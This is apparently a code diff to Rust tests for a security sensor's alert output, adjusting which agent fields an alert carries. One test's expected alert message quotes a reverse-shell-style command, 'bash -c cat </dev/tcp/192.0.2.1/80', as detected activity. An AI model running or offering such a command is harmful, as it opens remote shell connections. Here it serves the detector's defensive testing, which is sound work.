@@ -181,9 +181,6 @@ fn check_seed_alert(input: &Value, alert: &Map<String, Value>) {
         ("observer.vendor", "execsentry"),
         ("observer.type", "sensor"),
         ("observer.version", VERSION),
-        ("agent.name", "sensor-1"),
-        ("agent.type", "execsentry"),
-        ("agent.version", VERSION),
     ] {
         assert_eq!(field(alert, path), want, "{path}");
     }
@@ -217,7 +214,11 @@ fn nested_input() {
     // Set inside the document's own objects, next to what was there.
     assert_eq!(alert["event"]["kind"], "alert");
     assert_eq!(alert["event"]["id"], "MpLZ1nkBzF7dYnIrAAAB");
-    assert_eq!(alert["agent"]["id"], "agent-1", "other agent fields stay");
+    assert_eq!(
+        alert["agent"],
+        json!({"type": "endpoint", "id": "agent-1"}),
+        "the collector's agent is kept whole"
+    );
     assert_eq!(alert["labels"]["env"], "prod");
     assert_eq!(
         alert["message"],
@@ -286,6 +287,11 @@ fn process_event_input() {
         alert["message"],
         "Potential Reverse Shell Activity via Terminal: process bash ran \
          \"bash -c cat </dev/tcp/192.0.2.1/80\" as user root on host h1."
+    );
+    // The sensor's own events have no collector: the sensor is their agent.
+    assert_eq!(
+        alert["agent"],
+        json!({"name": "sensor-1", "type": "execsentry", "version": VERSION})
     );
 }
 
